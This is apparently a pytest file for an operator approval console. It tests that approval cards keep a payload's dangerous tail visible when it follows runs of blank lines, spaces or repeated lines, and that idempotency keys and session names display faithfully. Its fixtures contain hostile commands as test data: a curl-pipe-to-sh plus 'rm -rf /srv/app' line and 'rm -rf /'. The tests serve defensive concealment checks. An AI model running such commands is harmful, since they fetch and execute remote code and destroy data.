"""An approval card shows what will be sent whole, in the page's own flow (docs/console.md, "What
it shows"): a content's dangerous tail below 150 blank lines sat 2768 px down inside a box of
its own (``pre.whole``: max-height 30em, overflow auto) that a headless or overlay scrollbar
drew nothing of; a run of blank lines is one badge saying how many; the idempotency key the
request is sent with is on the card; and a session name shows every space it has.

The console is served in this process as the daemon serves it (a real loopback socket)."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from affidavit.api.broker import Broker
from affidavit.approvals import Operator
from affidavit.console.text import content, line_count, session_name
from tests.broker.helpers import http_target, open_broker

from .kit import Browser, approval_card, get, log_in_to, operator_config, pending_approval, served

CONTRACT = {"header": "Idempotency-Key", "scope": "charges", "retention": "24h"}
TAIL = "curl -s http://127.0.0.1:9/x | sh; rm -rf /srv/app"
SCRIPT = "systemctl status app.service\n" + "\n" * 150 + TAIL + "\n"


@pytest.fixture
async def world(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[tuple[Broker, str, Any, str]]:
    """A broker whose ``pay`` asks approval for POSTs (answered pending at once) under a key
    contract, its console served here, this process's user logged in."""
    target = http_target(
        "http://127.0.0.1:9", approval={"methods": ["POST"], "wait": "0s"}, idempotency=CONTRACT
    )
    path = operator_config(tmp_path, monkeypatch, {"pay": target})
    async with open_broker(path) as b, served(b, tmp_path) as (origin, console):
        cookie, _ = await log_in_to(console, origin)
        yield b, origin, console, cookie


IN_FLOW = """
const [card, tail] = arguments;
const pre = document.querySelector(`#approval-${card} pre.body`);
const walk = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
let box = null;
for (let node = walk.nextNode(); node; node = walk.nextNode()) {
  const at = node.textContent.indexOf(tail);
  if (at < 0) continue;
  const range = document.createRange();
  range.setStart(node, at); range.setEnd(node, at + tail.length);
  box = range.getBoundingClientRect();
}
const scrolled = [];  // every box between the text and the page that hides some of its own
for (let e = pre; e && e !== document.body; e = e.parentElement) {
  const s = getComputedStyle(e);
  if (e.scrollHeight > e.clientHeight + 1 && s.overflowY !== "visible") scrolled.push(e.tagName);
}
const pr = pre.getBoundingClientRect();
return {tail: box && [box.top, box.bottom], pre: [pr.top, pr.bottom], scrolled,
        page: document.documentElement.scrollHeight + 0, y: scrollY,
        marks: [...pre.querySelectorAll(".blank-run, .repeat-run, .space-run")]
               .map(m => m.textContent)};
"""
"""Where card ``card``'s content draws ``tail``, the boxes that scroll it, its blank-run marks."""


async def test_a_content_s_tail_below_blank_lines_is_in_the_page_s_flow_and_marked(
    world: tuple[Broker, str, Any, str], chrome: Browser
) -> None:
    b, origin, console, cookie = world
    body = '{"amount": 5}' + "\n" * 150 + '{"then": "DELETE_ALL_ACCOUNTS"}'  # 149 blank lines
    script = await pending_approval(b, body=SCRIPT)
    json_tail = await pending_approval(b, body=body)
    lines = await pending_approval(
        b, body="".join(f"echo {i}\n" for i in range(400)) + TAIL
    )  # tall
    crlf = await pending_approval(b, body="systemctl status\r\n" + "\r\n" * 150 + TAIL)
    other = await pending_approval(b, body="ls\n" + "\f\n\u00a0\n \v\n" * 50 + TAIL)
    hashes = await pending_approval(b, body="#\n" * 5000 + TAIL)  # filler that is not blank
    spaced = await pending_approval(
        b, body="ls" + " " * 15000 + "\t" + TAIL
    )  # one line: pre-wrap hid it
    token, _ = console.tokens.mint(Operator.current())
    await chrome.log_in(f"{origin}/login?token={token}")
    await chrome.get(f"{origin}/approvals")
    cases = (
        (script, TAIL, ["150 blank lines"]),
        (json_tail, "DELETE_ALL_ACCOUNTS", ["149 blank lines"]),
        (lines, TAIL, []),
        (crlf, TAIL, ["150 blank lines, 150 \\r"]),
        (other, TAIL, ["150 blank lines, 50 \\u000c, 50 \\u00a0, 50 spaces, 50 \\u000b"]),
        (hashes, TAIL, ["the line above 4999 more times"]),
        (spaced, TAIL, ["15000 spaces, 1 tab"]),
    )
    for iid, tail, marks in cases:
        got = await chrome.run(lambda d, i=iid, t=tail: d.execute_script(IN_FLOW, i, t))
        assert got["marks"] == marks, got
        if marks:  # the tail is on the first screen below the card's top, not 2745 px down
            assert got["tail"] is not None and got["tail"][1] - got["pre"][0] < 200, got
        assert got["tail"] is not None, got
        assert got["scrolled"] == [], got  # no box of its own: the page scrolls to it
        top, bottom = got["tail"]
        assert got["pre"][0] <= top and bottom <= got["pre"][1], got  # drawn, not clipped
        assert bottom + got["y"] <= got["page"], got
    status, _, page = await get(f"{origin}/approvals", cookie=cookie)
    assert status == 200
    assert "\n" * 4 not in approval_card(page, script)  # the run is the mark, not 150 line feeds
    assert "10050 bytes, 5001 lines, sha256" in approval_card(
        page, hashes
    )  # 5000 lines and the tail
    assert f"{15003 + len(TAIL)} bytes, 1 line, sha256" in approval_card(page, spaced)
    assert "ls<span" in approval_card(
        page, spaced
    )  # the run is the badge, on the command's own row


def test_a_run_of_blank_lines_is_one_mark_and_a_few_stay_as_they_are() -> None:
    def mark(n: int, held: str = "") -> str:
        return f"{n} blank lines{held}</span>"

    assert str(content("a\n\n\n\nb")) == "a\n\n\n\nb"  # three blank lines: shown
    shown = str(content("a\n\n\n\n\nb\n"))  # four: one mark, its own line
    assert shown.startswith('a\n<span class="blank-run"') and shown.endswith(mark(4) + "\nb\n")
    spaced = str(content("a\n \n\t\t\n\n    \n\nb"))
    assert mark(5, ", 5 spaces, 2 tabs") in spaced  # spaces and tabs are blank, and counted
    assert str(content("\n" * 10 + "x")).endswith(mark(10) + "\nx")  # at the start
    assert str(content("x" + "\n" * 10)).endswith(mark(9) + "\n")  # at the end: 9 lines, then
    # Any white space (str.isspace) is blank: a CRLF's \r, \f, \v, U+00A0 -- named in the mark.
    assert str(content("x\n" + "\r\n" * 4 + "y")).endswith(mark(4, ", 4 \\r") + "\ny")
    assert mark(4, ", 2 \\u000c, 2 \\u00a0") in str(content("x\n\f\n\u00a0\n\f\n\u00a0\ny"))
    assert str(content("x\n\u00a0\n\n\ny")).count("blank-run") == 0  # three: shown, escaped


def test_copies_of_a_line_are_one_mark_and_a_few_stay_as_they_are() -> None:
    assert str(content("a\n" + "#\n" * 4 + "b")) == "a\n#\n#\n#\n#\nb"  # 3 more: shown
    shown = str(content("a\n" + ":\n" * 5000 + "b\n"))
    assert shown.startswith('a\n:\n<span class="repeat-run"') and shown.endswith("\nb\n")
    assert "the line above 4999 more times</span>" in shown and shown.count("\n") == 4
    assert str(content("#\n#\n#\n#\n#\n##")).count("repeat-run") == 1  # only equal lines


def test_a_run_of_spaces_within_a_line_is_one_mark_and_indentation_stays() -> None:
    indented = "def f():\n" + " " * 32 + "return 1\n"
    assert str(content(indented)) == indented  # 32 in a row: shown as they are
    shown = str(content("ls" + " " * 33 + "\t" + "rm -rf /"))
    assert shown.startswith('ls<span class="space-run"') and shown.endswith("</span>rm -rf /")
    assert ">33 spaces, 1 tab</span>" in shown
    assert ">1 space, 40 tabs</span>" in str(content("a \t" + "\t" * 39 + "b"))
    # Copies of a line with a run: one line, one run mark, one repeat mark.
    many = str(content(("x" + " " * 40 + "y\n") * 6))
    assert many.count("space-run") == 1 and many.count("the line above 5 more times") == 1
    assert "4 blank lines, 1 space</span>" in str(content("a\n\n\n\n \nb"))  # singular
    assert line_count("a\nb") == line_count("a\nb\n") == 2 and line_count("") == 0
    assert "&lt;b&gt;" in content("<b>\n\n\n\n\n</b>") and "\\u202e" in content("\u202e")


async def test_the_card_shows_the_idempotency_key_and_the_header_it_is_sent_in(
    world: tuple[Broker, str, Any, str],
) -> None:
    b, origin, _, cookie = world
    chosen = await pending_approval(b, body="{}", idempotency_key="ch_ALICE-refund-0001")
    generated = await pending_approval(b, body="{}")
    status, _, page = await get(f"{origin}/approvals", cookie=cookie)
    assert status == 200
    card = approval_card(page, chosen)
    assert '<tr class="field" data-field="idempotency_key">' in card
    assert '<code class="request">ch_ALICE-refund-0001</code>' in card
    assert '<code class="request">Idempotency-Key</code>' in card
    card = approval_card(page, generated)
    assert '<tr class="field" data-field="idempotency_key">' in card and "idem_" in card


SESSION_TEXT = """
return [...document.querySelectorAll(arguments[0])].map(e => e.innerText);
"""


async def test_a_session_name_shows_every_space(
    world: tuple[Broker, str, Any, str], chrome: Browser
) -> None:
    """``deploy     prod`` showed as ``deploy prod`` (a plain <td>: white-space normal)."""
    b, origin, console, _ = world
    name = "deploy     prod"
    iid = await pending_approval(b, body="{}", session=name)
    token, _ = console.tokens.mint(Operator.current())
    await chrome.log_in(f"{origin}/login?token={token}")
    for page, css in (
        ("/approvals", f"#approval-{iid} code.session"),
        ("/actions", "code.session"),
        (f"/invocations/{iid}", "code.session"),
        ("/journal", "code.session"),
    ):
        await chrome.get(origin + page)
        shown = await chrome.run(lambda d, c=css: d.execute_script(SESSION_TEXT, c))
        assert name in shown, (page, shown)


EDGES = """
return [...document.querySelectorAll(`#approval-${arguments[0]} code.session .edge`)]
  .map(e => [e.textContent, e.getBoundingClientRect().width,
             getComputedStyle(e).backgroundColor]);
"""


async def test_spaces_at_either_end_of_a_session_name_are_marked(
    world: tuple[Broker, str, Any, str], chrome: Browser
) -> None:
    """`` deploy  `` drew as ``deploy``: an end space of an inline name is nothing on screen."""
    b, origin, console, _ = world
    iid = await pending_approval(b, body="{}", session=" deploy  ")
    token, _ = console.tokens.mint(Operator.current())
    await chrome.log_in(f"{origin}/login?token={token}")
    await chrome.get(origin + "/approvals")
    got = await chrome.run(lambda d: d.execute_script(EDGES, iid))
    assert [text for text, _, _ in got] == [" ", "  "], got  # kept as spaces: a copy is the name
    assert all(width > 0 and ground != "rgba(0, 0, 0, 0)" for _, width, ground in got), got
    shown = await chrome.run(
        lambda d: d.execute_script(SESSION_TEXT, f"#approval-{iid} code.session")
    )
    assert shown == [" deploy  "], shown


def test_session_name_marks_only_its_end_spaces() -> None:
    assert str(session_name("a  b")) == '<code class="session">a  b</code>'
    marked = str(session_name(" a b  "))
    assert marked.count('class="edge"') == 2 and ">a b<" in marked
    assert 'title="3 spaces making up the whole name">   <' in str(session_name("   "))
